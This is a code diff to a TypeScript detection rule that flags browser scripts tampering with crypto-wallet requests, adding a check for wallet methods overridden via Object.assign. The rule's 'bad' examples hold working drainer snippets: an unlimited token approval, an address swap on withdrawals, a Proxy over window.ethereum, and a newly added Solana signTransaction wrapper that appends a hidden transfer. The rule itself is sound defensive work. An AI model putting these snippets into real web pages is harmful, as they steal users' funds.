@@ -2,7 +2,7 @@ import { apiPath, callsNamed, callsOf, constant, Op, pattern, propertyOf, show, 
 import { defineRule } from '../../rule.ts';
 import { checkScripts, contentExample } from './checkScripts.ts';
 import { mentions, textsOf } from './network.ts';
-import { originsOf } from './origins.ts';
+import { originPaths, originsOf } from './origins.ts';
 import { runsInPages } from './places.ts';
 import { few, functionOf, itemsOf } from './usage.ts';
 
@@ -40,7 +40,7 @@ export const walletRequestsChanged = defineRule({
       if (SPENDING.test(pattern(script, propertyOf(script, what, 'data')))) yield hit(call.value, { message: 'It asks the wallet to let somebody else spend what is in it.' });
     }
     const page = mentions(script, PAYS_OUT) ? requestFunction(script) : undefined;
-    const replaced = few(writesOf(script, ...METHODS)).find((write) => functionOf(script, write.value) !== undefined)?.property ?? wrapped(script) ?? page;
+    const replaced = few(writesOf(script, ...METHODS)).find((write) => functionOf(script, write.value) !== undefined)?.property ?? assigned(script) ?? wrapped(script) ?? page;
     if (replaced === undefined) return;
     const allowance = few(writesOf(script, 'data'), 60).find((write) => SPENDING.test(pattern(script, write.value)));
     if (allowance !== undefined && mentions(script, WALLET)) yield hit(allowance.value, { message: `The method ${replaced} is replaced, and the payment is made a permission to spend what is in the wallet.` });
@@ -63,6 +63,7 @@ export const walletRequestsChanged = defineRule({
       contentExample('(async () => { const [a] = await window.ethereum.request({ method: "eth_requestAccounts" }); const data = "0x095ea7b3" + "0".repeat(24) + "f".repeat(64); await window.ethereum.request({ method: "eth_sendTransaction", params: [{ from: a, to: "0xdAC17F958D2ee523a2206206994597C13D831ec7", data }] }); })();'),
       contentExample('const book = { BTC: "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", ETH: "0xde709f2102306220921060314715629080e2fb77" }; const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { const b = JSON.parse(body); if (/withdraw/.test(location.pathname)) { b.address = book[b.asset]; body = JSON.stringify(b); } return send.call(this, body); };'),
       contentExample('let e; Object.defineProperty(window, "ethereum", { get: () => e, set(v) { e = new Proxy(v, { get(t, k) { return k !== "request" ? t[k] : (q) => { if (q.method === "eth_sendTransaction") q.params[0].data = "0x095ea7b3" + who + "f".repeat(64); return t.request(q); }; } }); } });'),
+      contentExample('const fee = "BjeWeg7FfFB8ygwPEt4r9QNU8iAQLmFVqDd3Qm6uHb2k"; const w = window.solana; const old = w.signTransaction.bind(w); const add = (tx) => { tx.add(SystemProgram.transfer({ fromPubkey: w.publicKey, toPubkey: new PublicKey(fee), lamports: 1300000 })); return tx; }; Object.assign(w, { signTransaction: (tx) => old(add(tx)) });'),
     ],
     good: [
       contentExample('const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (/withdraw/.test(this.url)) warn("Check the address " + JSON.parse(body).address); return send.call(this, body); }; const donate = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq";'),
@@ -77,6 +78,15 @@ export const walletRequestsChanged = defineRule({
 function requestFunction(script: ScriptFacts): string | undefined {
   const found = few(writesOf(script, 'send', 'fetch')).find((write) => functionOf(script, write.value) !== undefined && /^(XMLHttpRequest\.prototype|window|self|globalThis)$/.test(apiPath(script, write.object) ?? ''));
   return found?.property;
+}
+
+/** A method that is put over a wallet's own: `Object.assign(wallet, { signTransaction: … })`. */
+function assigned(script: ScriptFacts): string | undefined {
+  for (const call of few(callsOf(script, 'Object.assign'), 60)) {
+    const found = METHODS.find((name) => functionOf(script, propertyOf(script, call.args[1] ?? 0, name)) !== undefined);
+    if (found !== undefined && /solana|ethereum|tron|phantom|wallet/i.test([...originPaths(script, call.args[0] ?? 0)].join(' '))) return found;
+  }
+  return undefined;
 }
 
 /** The method that a stand-in for the wallet looks out for: `new Proxy(wallet, { get(t, k) { if (k === 'request') … } })`. */
